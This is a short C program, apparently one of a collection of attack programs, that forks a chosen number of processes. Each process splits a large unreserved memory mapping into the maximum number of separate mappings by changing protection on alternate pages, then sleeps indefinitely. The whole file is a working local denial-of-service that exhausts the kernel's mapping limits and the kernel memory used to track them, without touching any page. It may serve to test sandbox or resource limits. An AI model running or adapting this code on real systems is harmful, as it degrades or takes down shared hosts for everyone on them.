// Splits one reservation into as many mappings as the kernel allows a process, in as many processes as the argument says.
// It touches no page.
#include "attack.h"
#include <sys/mman.h>

int main(int argc, char **argv)
{
    int processes = argc > 1 ? atoi(argv[1]) : 1;
    const size_t page = 4096, pages = 131072;
    for (int process = 1; process < processes; process++)
        if (fork() == 0)
            break;
    char *memory = mmap(NULL, pages * page, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (memory == MAP_FAILED)
        die("mmap");
    for (size_t index = 0; index < pages; index += 2)
        if (mprotect(memory + index * page, page, PROT_READ))
            break;
    pause();
}
